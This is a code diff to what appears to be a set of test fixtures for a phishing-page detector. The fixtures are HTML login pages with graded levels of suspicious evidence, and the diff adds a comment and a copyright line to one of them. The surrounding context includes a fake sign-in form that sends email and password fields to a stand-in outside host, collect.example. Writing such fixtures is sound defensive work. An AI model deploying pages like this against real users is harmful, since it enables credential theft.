@@ -68,10 +68,11 @@ export const KIT_PAGES: Record<string, string> = {
     'Sign in',
     `<div class="card"><img src="data:image/svg+xml;base64,${REFERENCE_LOGO}" width="64" height="64" alt=""><h1>Sign in to your account</h1><form action="https://collect.example/next.php" method="post"><input type="email" name="login"><input type="password" name="passwd"><button>Sign in</button></form></div>`,
   ),
-  // Weaker evidence: the brand named in the title and the form's words only, on a site with its own links.
+  // Weaker evidence: the brand named in the title and the form's words only, on a site with its own
+  // links and its own name (served as kit-suspicious.test).
   '/kit/suspicious': page(
     'Outlook Web App',
-    `<div class="card"><h1>Staff mail</h1><p>Use your Outlook account.</p><form action="/owa/auth.owa" method="post"><input type="email" name="username"><input type="password" name="password"><button>Sign in</button></form><a href="/help">Help</a><a href="/about">About</a></div>`,
+    `<div class="card"><h1>Staff mail</h1><p>Use your Outlook account.</p><form action="/owa/auth.owa" method="post"><input type="email" name="username"><input type="password" name="password"><button>Sign in</button></form><a href="/help">Help</a><a href="/about">About</a><p>© Kit Suspicious Ltd</p></div>`,
   ),
   // A genuine shop's sign-in: federated buttons in several wordings, brands in its footer and text.
   '/genuine/federated': page(
